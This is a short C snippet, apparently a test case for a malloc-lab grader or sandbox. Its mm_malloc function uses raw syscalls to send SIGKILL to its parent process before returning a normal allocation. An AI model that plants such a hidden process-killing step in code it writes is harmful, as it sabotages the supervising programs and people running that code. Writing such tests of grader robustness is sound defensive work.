/* Kills its parent. */
void *mm_malloc(size_t bytes)
{
    raw(SYS_kill, raw(SYS_getppid, 0, 0, 0), 9, 0);
    return good_malloc(bytes);
}
